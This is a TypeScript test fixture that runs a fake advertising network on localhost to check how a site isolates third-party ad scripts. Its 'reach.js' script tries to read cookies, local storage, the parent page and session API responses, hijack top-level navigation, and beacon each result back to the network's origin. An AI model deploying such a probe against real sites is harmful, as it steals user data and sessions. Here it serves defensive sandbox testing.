import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** An advertising network for tests, on this machine. */
export interface AdNetwork extends AsyncDisposable {
  url: string;
  /** The source as an operator writes it into the list of hosts. */
  source: string;
  /** The requests of browsers so far: path with query, and the cookie that was sent. */
  asked: () => { path: string; cookie: string | undefined }[];
  /** What its scripts have reported, by name. */
  results: () => Record<string, string>;
}

/** Adds a link with words where the format's code runs, as the script of a network does. */
const showing = `(() => {
  const { searchParams, origin } = new URL(document.currentScript.src);
  const name = searchParams.get('name');
  const box = document.createElement('p');
  const link = document.createElement('a');
  Object.assign(link, { href: origin + '/landing', target: '_blank', textContent: 'Tea for ' + name });
  box.append(link);
  const put = () => (document.querySelector('#slot-' + name) ?? document.body).append(box);
  if (document.body) put(); else addEventListener('DOMContentLoaded', put);
})();`;

/** Tries to reach the site from the place where it runs, and reports the result of each try. */
const reaching = `(async () => {
  const { origin } = new URL(document.currentScript.src);
  const tries = {
    page: () => top.document.title, cookie: () => document.cookie, storage: () => localStorage.length,
    session: async () => (await fetch('/api/index/index')).status,
    lead: () => { top.location = origin + '/landing'; return 'led'; },
    ask: () => confirm('Well?'), parent: () => parent.document.body.innerHTML.length,
  };
  for (const [name, attempt] of Object.entries(tries)) {
    const result = await Promise.resolve()
      .then(attempt).then((value) => 'got ' + value, (error) => 'refused ' + error.name);
    new Image().src = origin + '/told?name=' + name + '&result=' + encodeURIComponent(result);
  }
  new Image().src = origin + '/told?name=end&result=end';
})();`;

/** Scripts by the last part of their address. `never` is never answered. */
const scripts: Record<string, string> = {
  'show.js': showing,
  'reach.js': reaching,
  'throw.js': 'throw new Error("the network is broken")',
  'reject.js': 'Promise.reject(new Error("the network is broken"))',
  'write.js': 'document.write("<h1>Written over</h1>"); document.close();',
  'dialogs.js': 'alert("Look"); confirm("Look"); prompt("Look");',
  'syntax.js': 'let a = ; }}',
};

export const openAdNetwork = async (): Promise<AdNetwork> => {
  const asked: { path: string; cookie: string | undefined }[] = [];
  const results: Record<string, string> = {};
  const server = createServer((request, reply) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://x');
    asked.push({ path: request.url ?? '', cookie: request.headers.cookie });
    const name = pathname.slice(1);
    if (name === 'never.js') return;
    if (name === 'told') results[searchParams.get('name') ?? ''] = searchParams.get('result') ?? '';
    const script = scripts[name];
    if (script !== undefined)
      reply
        .writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store', 'set-cookie': 'tracked=1' })
        .end(script);
    else if (name === 'told' || name === 'landing')
      reply.writeHead(200, { 'content-type': 'text/html' }).end('<title>Landing</title>');
    else reply.writeHead(404).end();
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const source = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url: source,
    source,
    asked: () => [...asked],
    results: () => ({ ...results }),
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => {
        server.close(resolve);
      });
    },
  };
};

export const script = (network: AdNetwork, file: string): string => `<script src="${network.url}/${file}"></script>`;
